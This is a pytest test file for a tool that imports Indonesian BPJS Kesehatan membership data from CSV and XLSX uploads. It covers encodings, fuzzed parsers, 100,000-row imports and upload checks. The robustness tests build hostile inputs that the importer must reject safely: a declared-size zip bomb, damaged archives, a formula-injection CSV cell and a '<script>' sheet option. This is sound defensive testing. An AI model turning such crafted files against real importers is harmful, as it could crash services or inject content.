def test_encodings(good, registry):
    text = good["csv"].replace("BPJS Kesehatan", "BPJS – Kesehatan ñ")
    plain = check(text, registry)
    for data in (text.encode("utf-16"), text.encode("utf-16-be").join([b"\xfe\xff", b""]),
                 b"\xef\xbb\xbf" + text.encode(), text.encode("cp1252"), text.encode("utf-16-le")):
        rep = check(data, registry)
        kind = outcome("Unicode", rep)
        if kind == "import":
            assert _frame_key(rep) == _frame_key(plain)
    # an odd number of bytes after a UTF-16 mark is a message, not a decoding crash
    outcome("Unicode", check(b"\xff\xfe" + text.encode("utf-16-le")[:-1] + b"\x00\xd8", registry))


# ---- the parsers ---------------------------------------------------------------------------------
@hyp(300)
@given(value=hs.one_of(hs.text(max_size=40), hs.text(alphabet="0123456789.,%- jutaribu\u00a0\u200b１２", max_size=20),
                       hs.floats(allow_nan=True, allow_infinity=True), hs.integers(), hs.booleans(), hs.none()))
def test_parse_number_never_crashes(value):
    try:
        n = P.parse_number_ex(value)
    except P.ParseError as exc:
        assert str(exc)
        OUTCOMES["parser inputs"]["message"] += 1
        return
    assert n is None or (isinstance(n.value, float) and n.value == n.value and abs(n.value) != float("inf"))
    OUTCOMES["parser inputs"]["import"] += 1


@hyp(300)
@given(value=hs.one_of(hs.text(max_size=40), hs.text(alphabet="0123456789-/. JuliAgustus２０", max_size=16),
                       hs.floats(), hs.integers(), hs.dates(), hs.none()))
def test_parse_period_never_crashes(value):
    try:
        p = P.parse_period(value, today=TODAY)
    except P.ParseError as exc:
        assert str(exc)
        OUTCOMES["parser inputs"]["message"] += 1
        return
    assert p is None or re.fullmatch(r"(199\d|20\d\d|2100)-(0[1-9]|1[0-2])", p), p
    OUTCOMES["parser inputs"]["import"] += 1


@hyp(200)
@given(n=hs.integers(0, 10 ** 12), sep=hs.sampled_from([".", NBSP, NNBSP, " ", "." + ZWSP, "\u3000"]),
       fullwidth=hs.booleans(), pad=hs.sampled_from(["", " ", NBSP, ZWSP, BOM]))
def test_parse_number_reads_grouped_counts(n, sep, fullwidth, pad):
    text = f"{n:,}".replace(",", sep)
    if fullwidth:
        text = text.translate(FULLWIDTH)
    assert P.parse_number_ex(pad + text + pad, count=True).value == n
    OUTCOMES["parser inputs"]["import"] += 1


@hyp(200)
@given(y=hs.integers(1990, 2100), m=hs.integers(1, 12),
       form=hs.sampled_from(["{y}-{m:02d}", "{m:02d}/{y}", "{y}{m:02d}", "{name} {y}", "01/{m:02d}/{y}", "per 1 {name} {y}"]),
       fullwidth=hs.booleans(), zw=hs.booleans())
def test_parse_period_reads_written_months(y, m, form, fullwidth, zw):
    name = ["Januari", "Februari", "Maret", "April", "Mei", "Juni", "Juli", "Agustus", "September", "Oktober",
            "November", "Desember"][m - 1]
    text = form.format(y=y, m=m, name=name)
    if fullwidth:
        text = text.translate(FULLWIDTH)
    if zw:
        text = ZWSP + text[:2] + ZWSP + text[2:]
    assert P.parse_period(text) == f"{y:04d}-{m:02d}"
    OUTCOMES["parser inputs"]["import"] += 1


@hyp(150)
@given(h=hs.one_of(hs.text(max_size=60), hs.integers(), hs.none(), hs.floats()))
def test_headers_never_crash(h):
    n = P.norm_header(h)
    assert re.fullmatch(r"[0-9a-z_]*", n)
    P.classify_header(h)
    P.map_columns([h, h, "kode"])
    OUTCOMES["parser inputs"]["import"] += 1


# ---- 100.000 rows ---------------------------------------------------------------------------------
def _big_rows(registry, n=100_000, start="2018-01"):
    codes = registry.codes("district")
    months = P.month_range(start, "2026-10")
    out = []
    for mth in months:
        for c in codes:
            out.append((c, mth))
            if len(out) == n:
                return out
    raise AssertionError("not enough district-months")


@pytest.mark.slow
def test_100k_row_csv_imports_whole(registry, store):
    rows = _big_rows(registry)
    text = "kode;periode;peserta;aktif\n" + "".join(f"{c};{m};1.{i % 1000:03d};{i % 900}\n"
                                                    for i, (c, m) in enumerate(rows))
    before = store.content_digest()
    rep = imp(store, text, registry, filename="big.csv", name="big")
    assert rep.ok, [str(e) for e in rep.errors[:3]]
    f = store.figures("big")
    assert len(f) == 100_000 and f.registered.sum() == sum(1000 + i % 1000 for i in range(100_000))
    assert outcome("100k rows", rep, store, before) == "import"
    # the same file with one bad row at the very end: a message for that row, nothing stored
    bad = text + f"{rows[0][0]};2026-10;1.000;2.000\n"
    rep = imp(store, bad, registry, filename="big.csv", name="big")
    assert outcome("100k rows", rep, store, before) == "message"
    assert [(e.row, e.column) for e in rep.errors] == [(100_002, "aktif")]


@pytest.mark.slow
def test_100k_row_xlsx_imports_whole(good, registry, store):
    rows = _big_rows(registry, start="2019-01")
    head = f'<row r="1">{istr("A1", "kode")}{istr("B1", "periode")}{istr("C1", "peserta")}</row>'
    body = "".join(f'<row r="{i}"><c r="A{i}" t="inlineStr"><is><t>{c}</t></is></c>'
                   f'<c r="B{i}" t="inlineStr"><is><t>{m}</t></is></c><c r="C{i}"><v>{1000 + i % 7}</v></c></row>'
                   for i, (c, m) in enumerate(rows, start=2))
    data = rezip(good["xlsx"], {SHEET: sheet_xml(head + body)})
    assert len(data) < M.MAX_UPLOAD_BYTES
    before = store.content_digest()
    rep = imp(store, data, registry, filename="big.xlsx", name="bigx")
    assert rep.ok, [str(e) for e in rep.errors[:3]]
    assert len(store.figures("bigx")) == 100_000 and rep.rows == 100_000
    assert outcome("100k rows", rep, store, before) == "import"


# ---- the upload check ----------------------------------------------------------------------------
def test_check_upload(good, registry):
    assert M.check_upload(good["csv"].encode(), "t.csv") == []
    assert M.check_upload(good["xlsx"], "t.xlsx") == []
    for data, name, needle in ((b"", "t.csv", "empty"), (b"  \n", "t.csv", "empty"),
                               (good["xlsx"][:500], "t.xlsx", "damaged or truncated"),
                               (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "t.xls", ".xls")):
        errs = M.check_upload(data, name)
        assert len(errs) == 1 and needle in errs[0].message_en and errs[0].hint_en, (name, errs)


def test_preview_and_sheet_names_are_safe(good, registry):
    frame, problems = M.preview(good["xlsx"], "t.xlsx", nrows=3)
    assert problems == [] and frame.iloc[0].tolist()[:3] == ["kode", "nama", "periode"] and len(frame) == 3
    frame, problems = M.preview(good["csv"].encode(), "t.csv")
    assert problems == [] and len(frame) == len(CODES) + 1 and frame.iloc[1, 0] == "18.01"
    assert M.sheet_names(good["xlsx"]) == ["data"]
    # a zip bomb (declared), a damaged zip, oversize bytes and random bytes: problems, never an exception
    claims = _patch_sizes(good["xlsx"], SHEET, 0xFFFFFFF0)
    for data, name in ((claims, "b.xlsx"), (good["xlsx"][:700], "t.xlsx"), (b"1" * (M.MAX_UPLOAD_BYTES + 1), "x.csv"),
                       (RNG.randbytes(3000), "r.xlsx"), (b"PK\x03\x04" + RNG.randbytes(500), "r.csv")):
        frame, problems = M.preview(data, name)
        assert frame.empty and problems and problems[0].hint_en, name
        assert M.sheet_names(data) == []
        OUTCOMES["preview"]["message"] += 1
    # a far cell in an otherwise small sheet: the preview stops at the first rows
    head = f'<row r="1">{istr("A1", "kode")}{istr("B1", "peserta")}</row>'
    far = rezip(good["xlsx"], {SHEET: sheet_xml(head + f'<row r="1048576">{num("XFD1048576", 1)}</row>', "A1:XFD1048576")})
    frame, problems = M.preview(far, "f.xlsx", nrows=1)
    assert problems == [] and frame.shape == (1, 2)
    OUTCOMES["preview"]["import"] += 1


# ---- odd names and options; the command line ------------------------------------------------------
@pytest.mark.parametrize("name,expect", [
    ("x" * 500, "message"), ("\u200b\u200d", "import"), ("  <i>Juli</i>\u202e  ", "import"), ("a\x00b\x07c", "import"),
    ("angka-terbit", "message"), ("ｆｕｌｌ", "import")])
def test_odd_dataset_names(good, registry, store, name, expect):
    before = store.content_digest()
    rep = M.import_file(store, good["csv"].encode(), name=name + str(next(_SEQ)) if expect == "import" else name,
                        filename="odd name.csv", today=TODAY, registry=registry)
    assert outcome("odd names and options", rep, store, before) == expect
    if expect == "import":
        assert rep.dataset == rep.dataset.strip() and P.clean_text(rep.dataset) == rep.dataset


@pytest.mark.parametrize("kw", [{"period": "Juliii"}, {"period": "\u200b"}, {"sheet": "<script>"},
                                {"period": "9" * 5000}, {"sheet": "\x00"}])
def test_odd_options(registry, kw):
    rep = check("kode;peserta\n18.01;1.000\n", registry, **kw)
    outcome("odd names and options", rep)
    rep = check(to_xlsx([{"kode": "18.01", "peserta": 1000}]), registry, filename="x.xlsx", **kw)
    outcome("odd names and options", rep)


def test_command_line_import_of_hostile_files(good, tmp_path, tmp_db, registry, capsys):
    from jkn_geo.cli import main

    st = S.Store(tmp_db)
    shipped.ensure_shipped(st, registry=registry)
    before = st.content_digest()
    st.close()
    S._OPENED.clear()
    cases = {"bomb.xlsx": _patch_sizes(good["xlsx"], SHEET, 0xFFFFFFF0), "cut.xlsx": good["xlsx"][:900],
             "rand.csv": RNG.randbytes(4000), "formula.csv": b"kode;periode;peserta\n18.01;2025-07;=1+1\n"}
    try:
        for fn, data in cases.items():
            p = tmp_path / fn
            p.write_bytes(data)
            rc = main(["import", str(p), "--lang", "en"])
            err = capsys.readouterr().err
            assert rc == 1 and "Not stored" in err and "Traceback" not in err, (fn, err)
            OUTCOMES["command line"]["message"] += 1
    finally:
        st = S._OPENED.pop(str(tmp_db), None)
        if st is not None:
            st.close()
    st = S.Store(tmp_db)
    assert st.content_digest() == before
    st.close()


def test_xlsx_with_shared_strings_as_excel_writes_them(good, registry):
    """Excel keeps text in xl/sharedStrings.xml (openpyxl writes it inline): both are read."""
    strings = ["kode", "periode", "peserta"] + CODES + ["2025-07"]
    sst = ('<?xml version="1.0" encoding="UTF-8"?><sst ' + _NS + f' count="{len(strings)}" uniqueCount="{len(strings)}">'
           + "".join(f"<si><t>{s}</t></si>" for s in strings) + "</sst>").encode()

    def s(ref, text):
        return f'<c r="{ref}" t="s"><v>{strings.index(text)}</v></c>'

    rows = f'<row r="1">{s("A1", "kode")}{s("B1", "periode")}{s("C1", "peserta")}</row>' + "".join(
        f'<row r="{i}">{s(f"A{i}", c)}{s(f"B{i}", "2025-07")}{num(f"C{i}", 1000 + i)}</row>'
        for i, c in enumerate(CODES, start=2))
    ct = zipfile.ZipFile(io.BytesIO(good["xlsx"])).read("[Content_Types].xml").replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                     b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    data = rezip(good["xlsx"], {SHEET: sheet_xml(rows), "[Content_Types].xml": ct}, extra={"xl/sharedStrings.xml": sst})
    rep = check(data, registry, filename="excel.xlsx")
    assert rep.ok, [str(e) for e in rep.errors]
    assert rep.frame.code.tolist() == CODES and rep.frame.registered.tolist() == [1000 + i for i in range(2, 8)]
